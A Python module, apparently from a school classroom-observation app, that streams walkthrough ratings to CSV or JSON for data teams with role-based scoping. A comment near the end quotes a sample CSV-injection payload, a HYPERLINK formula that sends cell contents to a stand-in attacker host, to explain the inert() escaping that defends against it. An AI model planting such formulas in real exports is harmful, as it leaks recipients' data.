"""Exports for data teams: every rating of every submitted walkthrough, one row each (tidy long
form), as CSV or JSON, streamed so memory stays flat however many rows there are.

Who exports what: a district admin, every school; a school leader, their schools; an observer,
their own walkthroughs. Calibration scores (practice, not visits), drafts and deleted
walkthroughs are never exported. The roster and the rubric are read once into dictionaries
(their size is the district's, not the data's); the ratings are read in pages of a few
thousand rows and written as they come.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date
from typing import Any

from sqlalchemy import DateTime, Select, func, select, type_coerce

from observe.accounts.models import User
from observe.core import clock
from observe.core.permissions import Principal, allowed
from observe.errors import ValidationFailed
from observe.extensions import db
from observe.observations.models import Observation, ObservationState, Rating
from observe.reports import access
from observe.reports.scope import check_schools, read_dates, within
from observe.roster import profiles
from observe.roster.models import Classroom, School, Teacher
from observe.rubrics.models import Competency, Criterion, RubricVersion

COLUMNS = [
    # the walkthrough
    "observation_id", "observed_at", "observed_on", "observer",
    "school_code", "school", "school_level", "region", "title_i", "school_attributes",
    "classroom_code", "classroom", "teacher", "grade", "subject", "course_level", "programs",
    "classroom_attributes",
    # the look-for, worded as the walkthrough's rubric version had it
    "rubric", "rubric_version", "competency", "criterion", "criterion_text", "dimensions",
    # the rating, with the level's descriptor for this look-for in that version
    "level", "level_label", "level_descriptor", "not_observed",
]  # fmt: skip
PAGE = 5_000
FORMATS = ("csv", "json")


@dataclass
class Scope:
    """What to export: dates (observed on, in the district's time zone, both ends included)
    and schools."""

    start: date | None = None
    end: date | None = None
    school_codes: list[str] = field(default_factory=list)


def parse_scope(
    user: Principal, start: str | None, end: str | None, school_codes: list[str]
) -> Scope:
    """The scope from a form or the command line; every problem named, or a valid scope."""
    problems: dict[str, str] = {}
    scope = Scope(school_codes=[c for c in school_codes if c])
    scope.start, scope.end = read_dates(start, end, problems)
    check_schools(user, scope.school_codes, problems)
    if problems:
        raise ValidationFailed.naming("Nothing was exported", problems)
    return scope


def _attributes(pairs: list[tuple[str, str]]) -> str:
    return "; ".join(f"{name}={value}" for name, value in sorted(pairs))


def query(user: Principal, scope: Scope) -> Select:
    """The ratings to export, as ids and values: what ``rows`` turns into text."""
    statement = (
        select(
            Observation.id,
            # Naive UTC as stored: attaching a time zone to every row costs more than the rest.
            type_coerce(Observation.observed_at, DateTime()).label("observed_at"),
            Observation.school_id,
            Observation.classroom_id,
            Observation.author_id,
            Rating.criterion_id,
            Rating.level,
            Rating.not_observed,
            # The classroom as it was at the visit (observe/roster/profiles.py).
            Observation.profile,
            Observation.teacher_id,
        )
        .join(Rating, Rating.observation_id == Observation.id)
        .where(
            Observation.state == ObservationState.SUBMITTED,
            Observation.deleted_at.is_(None),
            # Written so that no index serves it: SQLite would otherwise walk the calibration
            # index (nearly every row is NULL there) and sort millions of rows afterwards,
            # rather than read ix_observation_observed in order with nothing to sort.
            func.coalesce(Observation.calibration_session_id, 0) == 0,
        )
        .order_by(Observation.observed_at, Observation.id, Rating.criterion_id)
    )
    if not allowed(user, access.ALL_WALKTHROUGHS):
        statement = statement.where(Observation.author_id == user.id)
    return within(
        statement, user, start=scope.start, end=scope.end, school_codes=scope.school_codes
    )


Parts = tuple[tuple[Any, ...], tuple[Any, ...], tuple[Any, ...]]


def parts(user: Principal, scope: Scope) -> Iterator[Parts]:
    """Each rating as (walkthrough, look-for, rating) columns, oldest walkthrough first.

    A walkthrough's part is one tuple for all its ratings (they come together), and look-for
    and rating parts are shared: writers format each once, not once per row.
    """
    schools = _schools()
    classrooms = _Classrooms()
    criteria = _criteria()
    people = dict(db.session.execute(select(User.id, User.name)).all())
    no_classroom = ("", "Whole school", "", "", "", "", "", "")
    ratings: dict[tuple[int, int | None, bool], tuple[Any, ...]] = {}
    last, head = None, ()
    # On the connection, not the ORM session: plain rows, without the ORM's loading step.
    statement = query(user, scope).execution_options(yield_per=PAGE)
    result = db.session.connection().execute(statement)
    zone = clock.zone()
    at_visit: dict[tuple[int, str | None, int | None], tuple[str, ...]] = {}
    for row in result:
        oid, observed_at, school_id, classroom_id, author_id, cid, level, not_observed = row[:8]
        if oid != last:
            room: tuple[str, ...] = no_classroom
            if classroom_id:
                kept = (classroom_id, row.profile, row.teacher_id)
                room = at_visit.get(kept) or at_visit.setdefault(kept, classrooms.as_it_was(*kept))
            when = observed_at.isoformat(timespec="seconds") + "Z"
            day = observed_at.replace(tzinfo=UTC).astimezone(zone).date().isoformat()
            head = (
                oid, when, day, people.get(author_id, ""),
                *schools[school_id],
                *room,
            )  # fmt: skip
            last = oid
        criterion, labels = criteria[cid]
        rating = ratings.get((cid, level, not_observed))
        if rating is None:
            label, descriptor = labels.get(level, ("", "")) if level is not None else ("", "")
            rating = (level, label, descriptor, "yes" if not_observed else "no")
            ratings[(cid, level, not_observed)] = rating
        yield head, criterion, rating


def _schools() -> dict[int, tuple[str, ...]]:
    return {
        s.id: (
            s.code,
            s.name,
            s.level or "",
            s.region or "",
            "" if s.title_i is None else ("yes" if s.title_i else "no"),
            _attributes([(a.name, a.value) for a in s.attributes]),
        )
        for s in db.session.scalars(select(School))
    }


class _Classrooms:
    """Each walkthrough's classroom columns as they were at the visit: its code and name (who
    the classroom is), the teacher it kept, and the profile it kept (grade, subject, course
    level, programs, attributes)."""

    def __init__(self) -> None:
        self.rooms: dict[int, tuple[str, str]] = {
            cid: (code, name)
            for cid, code, name in db.session.execute(
                select(Classroom.id, Classroom.external_id, Classroom.name)
            )
        }
        self.teachers: dict[int, str] = dict(
            db.session.execute(select(Teacher.id, Teacher.name)).all()
        )
        self.profiles = profiles.lookup(db.session())

    def as_it_was(
        self, classroom_id: int, key: str | None, teacher_id: int | None
    ) -> tuple[str, ...]:
        code, name = self.rooms.get(classroom_id, ("", ""))
        kept = self.profiles.get(key or "")
        return (
            code,
            name,
            self.teachers.get(teacher_id, "") if teacher_id is not None else "",
            (kept.grade or "") if kept else "",
            (kept.subject or "") if kept else "",
            (kept.course_level or "") if kept else "",
            "; ".join(kept.programs) if kept else "",
            _attributes([(n, v) for n, v in kept.attributes]) if kept else "",
        )


def _criteria() -> dict[int, tuple[tuple[Any, ...], dict[int, tuple[str, str]]]]:
    rubrics = {v.id: (v.rubric.key, v.number) for v in db.session.scalars(select(RubricVersion))}
    competencies = dict(db.session.execute(select(Competency.id, Competency.name)).all())
    return {
        c.id: (
            (
                *rubrics[c.rubric_version_id],
                competencies[c.competency_id],
                c.key,
                c.text,
                "; ".join(sorted(c.dimension_names)),  # the same order on both databases
            ),
            {level["value"]: (level["label"], level.get("descriptor") or "") for level in c.levels},
        )
        for c in db.session.scalars(select(Criterion))
    }


# A cell a spreadsheet would read as a formula (OWASP, "CSV Injection"): a roster value such as
# =HYPERLINK("http://evil.example/?"&A2,"x") must reach a data team's Excel as text.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """A CSV cell as text a spreadsheet will not evaluate: one starting like a formula gets a
    leading single quote, which Excel and LibreOffice read as "this is text"."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def csv_chunks(records: Iterator[Parts], every: int = 2_000) -> Iterator[str]:
    """CSV text in pieces of ``every`` rows, the header first. Each part of a row is formatted
    once (a walkthrough's for all its ratings), the row is their concatenation."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="")

    def text(values: tuple[Any, ...] | list[str]) -> str:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([inert(v) for v in values])
        return buffer.getvalue()

    formatted: dict[tuple[Any, ...], str] = {}
    lines = [text(COLUMNS) + "\n"]
    last, head_text = None, ""
    for head, criterion, rating in records:
        if head is not last:
            head_text, last = text(head), head
        criterion_text = formatted.get(criterion)
        if criterion_text is None:
            criterion_text = formatted[criterion] = text(criterion)
        rating_text = formatted.get(rating)
        if rating_text is None:
            rating_text = formatted[rating] = text(rating)
        lines.append(f"{head_text},{criterion_text},{rating_text}\n")
        if len(lines) >= every:
            yield "".join(lines)
            lines = []
    yield "".join(lines)


def json_chunks(records: Iterator[Parts], every: int = 2_000) -> Iterator[str]:
    """A JSON array of objects keyed by ``COLUMNS``, in pieces of ``every`` rows."""
    yield "["
    pieces: list[str] = []
    first = True
    for head, criterion, rating in records:
        row = dict(zip(COLUMNS, head + criterion + rating, strict=True))
        # Typed where CSV has only text: yes/no as booleans, nothing as null.
        for name in ("title_i", "not_observed"):
            row[name] = {"yes": True, "no": False}.get(row[name])
        text = json.dumps(row, ensure_ascii=False)
        pieces.append(text if first else "," + text)
        first = False
        if len(pieces) == every:
            yield "\n".join(pieces)
            pieces = []
    yield "\n".join(pieces) + "]\n"


def chunks(fmt: str, records: Iterator[Parts]) -> Iterator[str]:
    return csv_chunks(records) if fmt == "csv" else json_chunks(records)
